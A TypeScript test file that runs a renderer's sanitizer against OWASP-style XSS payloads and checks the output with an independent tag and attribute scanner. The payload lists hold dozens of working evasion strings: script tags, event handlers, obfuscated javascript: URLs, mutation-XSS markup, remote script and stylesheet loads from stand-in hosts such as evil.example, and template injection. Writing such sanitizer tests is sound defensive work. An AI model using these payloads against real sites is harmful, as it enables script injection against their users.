/**
 * Known XSS payloads (after the OWASP XSS filter evasion cheat sheet and the
 * mutation XSS literature), as raw HTML, as markdown and as variable values.
 * The rendered page is read back by a small scanner that knows nothing of the
 * sanitizer and asserts that nothing able to run code survives.
 */
import { describe, expect, it } from 'vitest';
import { type RenderOptions, renderInline, renderPage } from './render.js';
import { assetUrlUnder } from './urls.js';

const ASSET_BASE = '/api/v1/labs/net-101/versions/3/';

const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<img src=x onerror=alert(1)>',
  '<img src="assets/ok.png" onerror="alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src="assets/ok.png" srcset="javascript:alert(1) 1x">',
  '<img src=`javascript:alert(1)`>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav&#x0D;ascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="/api/v1/instances/mine/reset">x</a>',
  '<a href="assets/../lab.yaml">solutions</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a href="https://ok.example/" target="_self" rel="opener">x</a>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<table><tr><td style="text-align:center;background:url(https://evil.example/x)">x</td></tr></table>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)" onclick="alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<video poster="javascript:alert(1)" src="assets/v.mp4"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<div id="config" class="hidden overlay">clobber</div>',
  '<pre data-action="run" data-system="client&quot; onmouseover=&quot;alert(1)">x</pre>',
  '<div>\n<script>alert(1)</script>\n</div>',
];

const UNCLOSED = new Set(['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>']);

const MARKDOWN_PAYLOADS = [
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](jav\tascript:alert(1))',
  '<javascript:alert(1)>',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '![x](https://tracker.example/pixel.gif)',
  '![x](//tracker.example/pixel.gif)',
  '[x](https://ok.example/ "title\\" onmouseover=\\"alert(1)")',
  '```bash run=client" onmouseover="alert(1)\nls\n```',
  '```"><script>alert(1)</script>\nls\n```',
  '```bash run=<img/src=x/onerror=alert(1)>\nls\n```',
  '> [!TIP]\n> <img src=x onerror=alert(1)>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
];

const VALUE_PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  'x onerror=alert(1)',
  'javascript:alert(1)',
  '[click](javascript:alert(1))',
  '</code></pre><script>alert(1)</script>',
  '{{vars.secret}}',
];

/** The character references sanitize-html writes, and numeric ones. */
function decode(text: string): string {
  return text
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/** What a browser ignores in a URL's scheme: spaces and control characters. */
const withoutControls = (url: string) => [...url].filter((c) => c.codePointAt(0)! > 0x20 && c !== '\u007f').join('');

const SAFE_TAGS = new Set(
  (
    'p br hr blockquote div span h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table thead tbody tfoot tr th td caption ' +
    'em strong b i u s del ins sub sup mark small abbr q a pre code kbd samp var button img figure figcaption ' +
    'video audio source track aside details summary'
  ).split(' '),
);
const URL_ATTRIBUTES = new Set(['href', 'src', 'poster']);
const ALLOWED_URL = new RegExp(`^(${ASSET_BASE.replaceAll('/', '\\/')}assets\\/|https:\\/\\/|http:\\/\\/|mailto:|#)`);

/** Every tag and attribute of the output, read without the sanitizer's help. */
function assertSafe(html: string, context: string): void {
  const withoutTags = html.replace(/<\/?[a-z][a-z0-9-]*(\s+[a-z-]+(="[^"]*")?)*\s*\/?>/gi, '');
  expect(withoutTags, `${context}: a "<" outside a well-formed tag`).not.toMatch(/</);
  for (const [, name, rest] of html.matchAll(/<([a-z][a-z0-9-]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi)) {
    expect(SAFE_TAGS.has(name!.toLowerCase()), `${context}: tag <${name}>`).toBe(true);
    for (const [, attribute, raw] of rest!.matchAll(/\s+([a-z-]+)(?:="([^"]*)")?/gi)) {
      const key = attribute!.toLowerCase();
      const value = decode(raw ?? '');
      expect(key.startsWith('on'), `${context}: event handler ${key}`).toBe(false);
      expect(
        ['id', 'name', 'srcset', 'srcdoc', 'formaction', 'action', 'xlink:href'],
        `${context}: ${key}`,
      ).not.toContain(key);
      if (key === 'style') {
        expect(['th', 'td'], `${context}: style on <${name}>`).toContain(name);
        expect(value, context).toMatch(/^text-align:(left|right|center);?$/);
      }
      if (key === 'class')
        expect(value, `${context}: class`).toMatch(
          /^(language-[\w+#.-]+|box( box-\w+)?|box-title|code-action(-button)?)$/,
        );
      if (URL_ATTRIBUTES.has(key)) expect(withoutControls(value), `${context}: ${key}`).toMatch(ALLOWED_URL);
      if (key === 'src' || key === 'poster')
        expect(value, `${context}: remote media`).toMatch(new RegExp(`^${ASSET_BASE}`));
    }
  }
}

const options: RenderOptions = {
  variables: { user: { name: 'Ann' }, instance: { id: 'i-1' }, systems: {}, vars: { secret: 'hidden' } },
  assetUrl: assetUrlUnder(ASSET_BASE),
  pagePath: 'pages/01.md',
  systems: ['client', 'server'],
};

describe('rendering refuses known XSS payloads', () => {
  it.each(HTML_PAYLOADS)('raw HTML %s', (payload) => {
    const { html } = renderPage(`Before\n\n${payload}\n\nafter`, options);
    assertSafe(html, payload);
    expect(html).toContain('Before');
    // An unclosed <style> takes the rest of the page with it, as in a browser.
    if (!UNCLOSED.has(payload)) expect(html).toContain('after');
  });

  it.each(MARKDOWN_PAYLOADS)('markdown %s', (payload) => {
    assertSafe(renderPage(payload, options).html, payload);
    assertSafe(renderInline(payload, options).html, payload);
  });

  it.each(VALUE_PAYLOADS)('a variable value %s shows as text', (value) => {
    const page = [
      '# Hi {{user.name}}',
      '[docs](https://docs.example/{{user.name}}) [asset](assets/{{user.name}}.png)',
      '<span title={{user.name}}>x</span> <a href="{{user.name}}">y</a>',
      '```bash run=client\necho {{user.name}}\n```',
    ].join('\n\n');
    const { html } = renderPage(page, { ...options, variables: { ...options.variables, user: { name: value } } });
    assertSafe(html, value);
    // The value is text: visible as written, never a second round of variables.
    expect(decode(html.match(/<h1>(.*)<\/h1>/)![1]!)).toBe(`Hi ${value}`);
    expect(decode(html.match(/<code class="language-bash">([^<]*)</)![1]!)).toBe(`echo ${value}\n`);
  });

  it('the scanner itself catches what it is meant to catch', () => {
    for (const bad of [
      '<p onclick="x()">a</p>',
      '<a href="javascript:alert(1)">a</a>',
      '<a href="jav&#x09;ascript:x">a</a>',
      '<img src="https://evil.example/x.png" />',
      '<script>x</script>',
      '<p style="color:red">a</p>',
      '<p>a < b</p>',
      '<div class="hidden">a</div>',
    ]) {
      expect(() => assertSafe(bad, bad), bad).toThrow();
    }
  });
});
